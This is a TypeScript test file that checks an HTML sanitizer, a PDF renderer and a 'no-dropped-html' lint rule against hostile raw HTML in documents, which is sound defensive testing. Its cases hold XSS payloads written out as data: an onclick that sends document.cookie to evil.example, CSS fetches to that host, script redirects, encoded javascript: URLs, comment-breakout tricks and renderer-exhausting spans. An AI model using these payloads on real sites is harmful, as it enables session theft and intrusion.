// Hostile raw HTML in a pull request's document: event handlers and styles on kept elements,
// script hidden inside kept ones, nesting and spans sized to exhaust a renderer, tags left open,
// character references that spell script. Each case names the attack above it and asserts what
// the page draws, what the PDF's text says, and what no-dropped-html reports, exactly.
import type {Position} from 'unist'
import {beforeAll, describe, expect, it} from 'vitest'
import {parseDocument} from '../../scripts/load/parse'
import noDroppedHtml from '../../scripts/lint/rules/no-dropped-html'
import type {RuleContext} from '../../scripts/lint/rule'
import {positionAt} from '../../scripts/model/position'
import {documentHtml} from '../../scripts/render/html'
import {renderedCases} from '../fixtures/pdf-cases'

/** A table as the page draws it: inside a region that scrolls on a narrow screen, named as a reader hears it. */
const region = (table: string, label = 'Table') => `<div class="table-region" role="region" tabindex="0" aria-label="${label}">${table}</div>`

interface Case {
  /** The document's whole text: no front matter, so line 1 is the HTML. */
  text: string
  page: string
  pdf: string
  findings: string[]
}

const cases: Record<string, Case> = {
  // Text right after a table's end tag, in the same HTML block: a reader must still see it.
  'text after </table> on the same line': {
    text: '<table><tr><td>A</td></tr></table>after <b>bold</b> words',
    page: region('<table><tr><td>A</td></tr></table>') + '\nafter \nbold\n words',
    pdf: 'A after bold words',
    findings: ['1:41-1:44 Unexpected `<b>`: the page and the PDF drop it and keep its text; write `**text**` instead']
  },
  // A handler on the table itself, run when a reader clicks anywhere in it.
  'an event handler on <table>': {
    text: '<table onclick="fetch(\'https://evil.example/?c=\'+document.cookie)"><tr><td>Cell</td></tr></table>',
    page: region('<table><tr><td>Cell</td></tr></table>'),
    pdf: 'Cell',
    findings: ['1:8-1:67 Unexpected `onclick` on `<table>`: the page and the PDF drop this attribute; `<table>` keeps no attributes']
  },
  // A style that fetches from another host, or hides a cell's text from the reader.
  'a style on <td>': {
    text: '<table><tr><td style="background: url(https://evil.example/x.png)">Visible</td><td style="display: none">Hidden</td></tr></table>',
    page: region('<table><tr><td>Visible</td><td>Hidden</td></tr></table>'),
    pdf: 'Visible Hidden',
    findings: [
      '1:16-1:67 Unexpected `style` on `<td>`: the page and the PDF drop this attribute; `<td>` keeps only `colspan`, `rowspan` and `align`',
      '1:84-1:105 Unexpected `style` on `<td>`: the page and the PDF drop this attribute; `<td>` keeps only `colspan`, `rowspan` and `align`'
    ]
  },
  // Script inside a kept cell, where a sanitizer that trusts the table might not look.
  '<script> inside a table cell': {
    text: '<table><tr><td>Before<script>document.location = "https://evil.example"</script>After</td></tr></table>',
    page: region('<table><tr><td>BeforeAfter</td></tr></table>'),
    pdf: 'BeforeAfter',
    findings: ['1:22-1:81 Unexpected `<script>`: the page and the PDF drop it and everything in it; remove it']
  },
  // `ontoggle` fires as the page opens an `open` details, with no click at all.
  '<details open ontoggle=…>': {
    text: '<details open ontoggle="alert(1)"><summary>More</summary>Folded text</details>',
    page: '<details open><summary>More</summary>Folded text</details>',
    pdf: 'More Folded text',
    findings: ['1:15-1:34 Unexpected `ontoggle` on `<details>`: the page and the PDF drop this attribute; `<details>` keeps only `open`']
  },
  // A table nested 500 deep: every walk after the parse would run out of stack, and the PDF's
  // layout would take minutes. The first 32 elements are kept, one finding says the rest go.
  'a <table> nested 500 deep': {
    text: `${'<table><tr><td>'.repeat(500)}Deepest${'</td></tr></table>'.repeat(500)}`,
    page: region(`${'<table><tr><td>'.repeat(10)}Deepest<table><tr></tr></table>${'</td></tr></table>'.repeat(10)}`),
    pdf: 'Deepest',
    findings: ['1:162-1:166 Unexpected `<td>` nested more than 32 HTML elements deep: the page and the PDF drop it and the tags inside it, and keep their text; nest at most 32 deep']
  },
  // Spans past HTML's limits, to make the PDF lay out 99,999 rows or a negative width.
  'rowspan="99999" and colspan="-1"': {
    text: '<table><tr><td rowspan="99999">Tall</td><td colspan="-1">Wide</td></tr><tr><td rowspan="65534">Capped</td><td>Last</td></tr></table>',
    page: region('<table><tr><td>Tall</td><td>Wide</td></tr><tr><td rowspan="65534">Capped</td><td>Last</td></tr></table>'),
    pdf: 'Tall Wide Capped Last',
    findings: [
      '1:16-1:31 Unexpected `rowspan="99999"` on `<td>`: the page and the PDF drop this attribute; write a whole number from 0 (the rest of its group) to 65534',
      '1:45-1:57 Unexpected `colspan="-1"` on `<td>`: the page and the PDF drop this attribute; write a whole number from 1 to 1000'
    ]
  },
  // A colspan of 1,000 in a two-column table: a thousand columns in the PDF, each too narrow for a letter.
  'colspan="1000" in a narrow table': {
    text: '<table><tr><td colspan="1000">Across</td></tr><tr><td>Left</td><td>Right</td></tr></table>',
    page: region('<table><tr><td colspan="1000">Across</td></tr><tr><td>Left</td><td>Right</td></tr></table>'),
    pdf: 'Across Left Right',
    findings: []
  },
  // Tags never closed, hoping the rest of the page falls inside them. It does, as on GitHub and
  // in a browser, and nothing escapes the document: a paragraph closes its own `<sup>`, and the
  // document's end closes the cell.
  'unclosed tags': {
    text: '<table><tr><td>Open cell\n\nText after <sup>never closed\n\nNext paragraph.',
    page: region('<table><tr><td>Open cell<p>Text after <sup>never closed</sup></p><p>Next paragraph.</p></td></tr></table>'),
    pdf: 'Open cell Text after never closed Next paragraph.',
    findings: []
  },
  // A kept `<sup>` as a wrapper for script.
  '<sup> wrapping a <script>': {
    text: 'E = mc<sup><script>alert(1)</script>2</sup>',
    page: '<p>E = mc<sup>2</sup></p>',
    pdf: 'E = mc2',
    findings: ['1:12-1:37 Unexpected `<script>`: the page and the PDF drop it and everything in it; remove it']
  },
  // Character references that spell markup or a script URL, hoping to be decoded after sanitizing.
  'character references': {
    text: '<table><tr><td colspan="&#50;">&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;</td></tr></table>\n\n<a href="&#106;avascript:alert(1)">Link</a> <details ontoggle="&#97;lert(1)">Text</details>',
    page: region('<table><tr><td colspan="2">&#x3C;script>alert(1)&#x3C;/script> &#x26;lt;b&#x26;gt;</td></tr></table>') + '\n<p>Link <details>Text</details></p>',
    pdf: '<script>alert(1)</script> &lt;b&gt; Link Text',
    findings: [
      '3:1-3:36 Unexpected `<a>`: the page and the PDF drop it and keep its text; write a link as `[text](https://…)` instead',
      '3:54-3:77 Unexpected `ontoggle` on `<details>`: the page and the PDF drop this attribute; `<details>` keeps only `open`'
    ]
  },
  // A comment a browser ends at `--!>`, with script after it that a naive reader thinks is inside it.
  'a comment closed early': {
    text: 'Before <!-- --!><script>alert(1)</script> --> after',
    page: '<p>Before  --> after</p>',
    pdf: 'Before --> after',
    findings: ['1:17-1:42 Unexpected `<script>`: the page and the PDF drop it and everything in it; remove it']
  },
  // A tag name that hides `script` inside it (Markdown reads `<scr` as text), and a tag cut off
  // so it swallows what follows.
  'a split tag name and a tag cut short': {
    text: '<scr<script>ipt>alert(1)</script>\n\n<table><tr><td title="x',
    page: '<p>&#x3C;scr</p>\n' + region('<table><tr></tr></table>'),
    pdf: '<scr',
    findings: [
      '1:5-1:34 Unexpected `<script>`: the page and the PDF drop it and everything in it; remove it',
      '3:12-3:24 Unexpected `<td` without its closing `>`: the page and the PDF drop it and the rest of its HTML block; close the tag with `>`'
    ]
  }
}

function findingsOf(text: string): string[] {
  const document = parseDocument('policies/alpha.md', text)
  const findings: string[] = []
  const context = {
    report(span: {start: number; end: number}, reason: string) {
      const {start, end}: Position = positionAt(document.file, span.start, span.end)
      findings.push(`${start.line}:${start.column}-${end.line}:${end.column} ${reason}`)
    }
  } as unknown as RuleContext
  noDroppedHtml.check(document, context)
  return findings
}

const names = Object.keys(cases)
/** Each case's text in the PDF, between its control block and its revision history. */
const pdfText = new Map<string, string>()

beforeAll(async () => {
  const rendered = await renderedCases(names.map((name) => cases[name]!.text))
  names.forEach((name, index) => pdfText.set(name, rendered[index]!.text))
})

describe.each(names)('%s', (name) => {
  const {text, page, pdf, findings} = cases[name]!

  it('the page draws only what is kept', () => {
    expect(documentHtml(parseDocument('policies/alpha.md', text).tree, () => undefined)).toBe(page)
  })

  it('the PDF shows the same text', () => {
    expect(pdfText.get(name)).toBe(pdf)
  })

  it('no-dropped-html reports what goes', () => {
    expect(findingsOf(text)).toEqual(findings)
  })
})
